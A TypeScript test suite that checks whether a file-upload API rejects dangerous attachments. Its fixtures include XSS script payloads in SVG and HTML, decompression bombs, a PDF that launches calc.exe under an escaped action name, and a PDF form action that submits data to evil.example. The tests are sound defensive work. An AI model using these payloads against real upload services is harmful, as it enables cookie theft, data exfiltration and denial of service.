import { constants, deflateRawSync, deflateSync, gzipSync } from 'node:zlib'
import { strToU8, zipSync } from 'fflate'
import sharp from 'sharp'
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest'
import { type Api, startApi } from '../../../test/api.ts'
import { aJpeg, aPdf, aPerson, aPhoto, type FileSender } from '../../../test/uploads.ts'

let api: Api
let person: FileSender
beforeAll(async () => {
  api = await startApi()
  person = await aPerson(api)
})
beforeEach(() => api.db.rateLimit.deleteMany())
afterAll(() => api.stop())

const EXE = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(300, 7)])
const EICAR = Buffer.from(
  ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$', 'EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'].join(''),
)
const SVG = Buffer.from(
  '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>',
)
const ZIP = Buffer.from(zipSync({ 'evil.html': strToU8('<script>alert(1)</script>') }))

const crcTable = Array.from({ length: 256 }, (_, n) => {
  let c = n
  for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1
  return c >>> 0
})
const crc = (bytes: Buffer) =>
  (bytes.reduce((sum, byte) => (crcTable[(sum ^ byte) & 255] ?? 0) ^ (sum >>> 8), 0xffffffff) ^
    0xffffffff) >>>
  0

function chunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type), data])
  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)]
  length.writeUInt32BE(data.length)
  sum.writeUInt32BE(crc(body))
  return Buffer.concat([length, body, sum])
}

/** A picture that says it is of this size, with the few bytes that a plain surface packs into. */
function aPng(width: number, height: number): Buffer {
  const head = Buffer.alloc(13)
  head.writeUInt32BE(width)
  head.writeUInt32BE(height, 4)
  head.set([1, 0, 0, 0, 0], 8)
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a])
  const rows = deflateSync(Buffer.alloc(Math.min(height * (Math.ceil(width / 8) + 1), 5_000_000)), {
    level: 9,
  })
  return Buffer.concat([signature, chunk('IHDR', head), chunk('IDAT', rows), chunk('IEND', Buffer.alloc(0))])
}

const HEIC = Buffer.concat([Buffer.from([0, 0, 0, 24]), Buffer.from('ftypheic'), Buffer.alloc(100)])
const AVIF = () =>
  sharp({ create: { width: 8, height: 8, channels: 3, background: 'red' } })
    .avif()
    .toBuffer()
const inPdf = (text: string) => Buffer.from(`%PDF-1.7\n${text}\n%%EOF\n`, 'latin1')

async function refusal(content: Buffer, name: string) {
  const answer = await person.send(content, name)
  const { status, code, fields } = answer.json<{ status: number; code: string; fields?: { file: string } }>()
  return [status, code, fields?.file]
}

describe('a file is judged by what is in it, and refused as what it is', () => {
  test.each<[string, string, Buffer | (() => Promise<Buffer>), string]>([
    ['a program called a document', 'акт.pdf', EXE, 'type'],
    ['a drawing with a script', 'схема.svg', SVG, 'type'],
    ['a drawing with a script called a photo', 'фото.png', SVG, 'type'],
    ['a page', 'фото.jpg', Buffer.from('<!doctype html><script>alert(1)</script>'), 'type'],
    ['the test of antivirus programs called a photo', 'фото.jpg', EICAR, 'type'],
    ['the test of antivirus programs called a document', 'акт.pdf', EICAR, 'type'],
    ['the same with the first letters of a document', 'акт.pdf', inPdf(EICAR.toString()), 'pdf_damaged'],
    ['an archive called a document', 'акт.pdf', ZIP, 'type'],
    ['an archive that unpacks without end', 'фото.jpg', gzipSync(Buffer.alloc(50_000_000)), 'type'],
    ['a photo of an iPhone as it is', 'IMG_0001.HEIC', HEIC, 'heic'],
    ['another kind of picture', 'фото.avif', AVIF, 'type'],
    ['one byte', 'фото.jpg', Buffer.from('x'), 'type'],
    [
      'the first letters of a photo and nothing else',
      'фото.jpg',
      Buffer.from([0xff, 0xd8, 0xff, 0xe0]),
      'damaged',
    ],
    ['half of a photo', 'фото.jpg', async () => (await aJpeg()).subarray(0, 20_000), 'damaged'],
    ['a picture of 50 000 by 50 000', 'фото.png', aPng(50_000, 50_000), 'too_many_pixels'],
    ['a picture that is higher than pictures are', 'фото.png', aPng(1, 75_000_000), 'too_many_pixels'],
    ['a picture whose rows are missing', 'фото.png', aPng(8000, 8000).subarray(0, -30), 'damaged'],
  ])('%s', async (_, name, content, why) => {
    const bytes = typeof content === 'function' ? await content() : content
    expect(await refusal(bytes, name)).toEqual([422, 'attachment_refused', why])
  })

  test.each<[string, () => Promise<Buffer>, string]>([
    ['that is cut short', async () => (await aPdf()).subarray(0, -200), 'pdf_damaged'],
    [
      'without a page',
      async () => inPdf('1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>'),
      'pdf_damaged',
    ],
    ['with a script', () => aPdf((pdf) => pdf.addNamedJavaScript('a', 'app.alert(1)')), 'pdf_active'],
    ['with a file in it', () => aPdf((pdf) => pdf.file(EXE, { name: 'a.exe' })), 'pdf_active'],
    ['with a file pinned to its page', () => withPinnedFile(), 'pdf_active'],
    [
      'that starts a program under a written-round name',
      () => withAction('/S /L#61unch /F (calc.exe)'),
      'pdf_active',
    ],
    [
      'that sends what is filled in',
      () => withAction('/S /SubmitForm /F (https://evil.example)'),
      'pdf_active',
    ],
    ['that needs a password', () => aPdf(undefined, { userPassword: 'x' }), 'pdf_protected'],
    ['of 101 pages', () => aPdf((pdf) => addPages(pdf, 100)), 'pdf_too_many_pages'],
    ['larger than ten megabytes', () => aLargePdf(), 'pdf_too_large'],
    ['that is an archive as well', async () => Buffer.concat([await aPdf(), ZIP]), 'pdf_damaged'],
    ['that is an archive whose comment ends as documents do', () => pdfInArchive(), 'pdf_damaged'],
    ['behind a page', async () => Buffer.concat([Buffer.from('<script>1</script>'), await aPdf()]), 'type'],
  ])('a document %s', async (_, make, why) => {
    expect(await refusal(await make(), 'заявление.pdf')).toEqual([422, 'attachment_refused', why])
  })
})

const addPages = (pdf: PDFKit.PDFDocument, count: number) => {
  for (let i = 0; i < count; i++) pdf.addPage()
}

const withAction = (action: string) =>
  rewritten('/Type /Catalog', `/Type /Catalog /OpenAction << ${action} >>`)
const withPinnedFile = () =>
  rewritten('/Type /Page\n', '/Type /Page /Annots [<< /Subtype /FileAttachment /Rect [0 0 9 9] >>]\n')

/** Readers find objects again when they have moved. */
async function rewritten(from: string, to: string): Promise<Buffer> {
  const text = (await aPdf()).toString('latin1')
  if (!text.includes(from)) throw new Error(`The document has no «${from}»`)
  return Buffer.from(text.replace(from, to), 'latin1')
}

async function aLargePdf(): Promise<Buffer> {
  const noise = await aPhoto(3000, 2000).jpeg({ quality: 100, chromaSubsampling: '4:4:4' }).toBuffer()
  const pdf = await aPdf((document) => document.image(noise, 0, 0))
  if (pdf.length <= 10 * 1024 * 1024 || pdf.length > 15 * 1024 * 1024)
    throw new Error(`It is of ${pdf.length} bytes`)
  return pdf
}

async function pdfInArchive(): Promise<Buffer> {
  const comment = Buffer.from('\n%%EOF\n')
  const zip = Buffer.from(ZIP)
  zip.writeUInt16LE(comment.length, zip.length - 2)
  return Buffer.concat([await aPdf(), zip, comment])
}

/** An object stream that unpacks to four gigabytes of nothing, packed twice. */
const aBomb = () => {
  const nothing = deflateRawSync(Buffer.alloc(16_000_000), { finishFlush: constants.Z_FULL_FLUSH })
  const packed = deflateSync(Buffer.concat([Buffer.from([0x78, 0x9c]), ...Array<Buffer>(250).fill(nothing)]))
  const stream = `1 0 obj\n<< /Type /ObjStm /N 1 /First 10 /Filter [/FlateDecode /FlateDecode] /Length ${packed.length} >>\nstream\n`
  return Buffer.concat([
    Buffer.from(`%PDF-1.7\n${stream}`, 'latin1'),
    packed,
    Buffer.from('\nendstream\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n', 'latin1'),
  ])
}

describe('documents that were made to hurt', () => {
  test('one that unpacks without end is given up before it takes the memory of all', async () => {
    const before = process.memoryUsage.rss()
    let most = before
    const watch = setInterval(() => {
      most = Math.max(most, process.memoryUsage.rss())
    }, 20)
    const answer = await refusal(aBomb(), 'акт.pdf')
    clearInterval(watch)
    expect(answer).toEqual([422, 'attachment_refused', 'pdf_damaged'])
    expect(most - before).toBeLessThan(900_000_000)
  })

  test('one that goes round in circles is given up', async () => {
    const pages =
      '1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [2 0 R] /Count 1 >>\nendobj'
    expect(await refusal(inPdf(`${pages}\ntrailer\n<< /Root 1 0 R >>`), 'акт.pdf')).toEqual([
      422,
      'attachment_refused',
      'pdf_damaged',
    ])
  })
})

test('of a refused file nothing stays', async () => {
  await person.send(SVG, 'a.svg')
  expect(await api.db.attachment.count({ where: { name: 'a.svg' } })).toBe(0)
  expect(await api.db.attachmentPart.count()).toBe(0)
  expect(await api.db.fileToRemove.count()).toBe(0)
})

test.each([
  ['with a link', () => aPdf((pdf) => pdf.link(1, 1, 9, 9, 'https://rosreestr.gov.ru'))],
  ['whose owner forbids changes', () => aPdf(undefined, { ownerPassword: 'x', permissions: {} })],
  ['of a hundred pages', () => aPdf((pdf) => addPages(pdf, 99))],
])('a document %s is taken', async (_, make) => {
  expect((await person.send(await make(), 'выписка.pdf')).json()).toMatchObject({ type: 'application/pdf' })
})
